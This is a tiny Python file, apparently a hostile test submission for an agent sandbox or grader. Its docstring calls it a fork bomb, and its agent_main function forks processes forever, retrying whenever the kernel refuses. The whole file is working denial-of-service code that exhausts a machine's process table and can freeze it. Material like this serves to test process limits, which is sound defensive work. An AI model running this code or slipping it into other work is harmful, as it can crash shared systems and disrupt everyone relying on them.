"""A fork bomb: every process forks for ever (pauses a moment when the kernel refuses)."""

import os
import time


def agent_main(problem_data: dict) -> list:
    while True:
        try:
            os.fork()
        except OSError:
            time.sleep(0.001)
